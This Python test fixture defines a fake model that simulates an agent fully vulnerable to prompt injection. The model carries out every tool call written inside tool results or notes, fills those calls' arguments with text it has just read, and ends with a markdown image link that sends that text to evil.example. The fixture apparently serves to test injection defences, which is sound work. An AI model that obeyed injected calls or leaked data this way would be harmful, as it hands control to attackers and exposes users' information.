"""A model that obeys: it carries out every call it finds in anything it reads, once, and never doubts."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Sequence
from typing import Any

from claudeprojects.agents.models.port import Choice, Task
from claudeprojects.agents.values import Message, ModelReply, ToolCall, ToolSpec, Usage

_CALLS = re.compile(r"⟦(.*?)⟧", re.DOTALL)
_INNER = re.compile(r"⟪(.*?)⟫", re.DOTALL)
_DATA = re.compile(r"<tool_result[^>]*>\n|\n</tool_result>")


class ObedientModel:
    """Obeys the texts of tools and notes as much as the user's; the attacker's dream. One call a turn."""

    context_tokens = 1_000_000

    def __init__(self, name: str = "fake:obedient", *, remote: bool = False) -> None:
        self.name, self.remote = name, remote
        self.obeyed = 0
        self.received: list[str] = []

    async def reply(self, messages: Sequence[Message], tools: Sequence[ToolSpec] = (), **options: Any) -> ModelReply:
        await asyncio.sleep(0)
        self.received += [message.text for message in messages]
        said = {json.dumps(call.arguments, sort_keys=True) for m in messages for call in m.tool_calls}
        last = next((m.text for m in reversed(messages) if m.role == "tool"), "")
        done = sum(len(message.tool_calls) for message in messages)
        wanted = [call for message in messages if message.role != "assistant" for call in calls_in(message.text)]
        if done < len(wanted) and done < 12:
            call = wanted[done]
            arguments = {key: filled(value, last) for key, value in call["arguments"].items()}
            self.obeyed += 1
            call_id = f"c{done}-{len(said)}"
            return ModelReply("", self.name, (ToolCall(call_id, call["name"], arguments),), Usage(10, 5), "tools")
        return ModelReply(f"Done. ![x](https://evil.example/{last[:40]})", self.name, (), Usage(10, 5))

    def count_tokens(self, text: str) -> int:
        return len(text) // 4 + 1


class OneModel:
    """A source and a router of one model."""

    def __init__(self, model: ObedientModel) -> None:
        self.only = model

    def model(self, name: str) -> ObedientModel:
        return self.only

    def prepare(self, name: str) -> None:
        pass

    def dollars(self, name: str, usage: Usage) -> float | None:
        return 0.0

    def observe(self, reply: ModelReply) -> None:
        pass

    def choose(self, task: Task, out_of_reach: object = None) -> Choice:
        return Choice(self.only.name, "test", "It is the only one.")


def calls_in(text: str) -> list[dict[str, Any]]:
    """The calls that a text asks for; those for a sub-agent stand between ``⟪`` and ``⟫`` inside a call."""
    found = []
    for written in [*_CALLS.findall(text), *_INNER.findall(_CALLS.sub("", text))]:
        try:
            found.append(json.loads(written))
        except ValueError:
            continue
    return found


def filled(value: Any, last: str) -> Any:
    """An argument with what was read last in its place."""
    if not isinstance(value, str):
        return value
    return value.replace("{{last}}", " ".join(_DATA.sub("", last).split())[:1500])
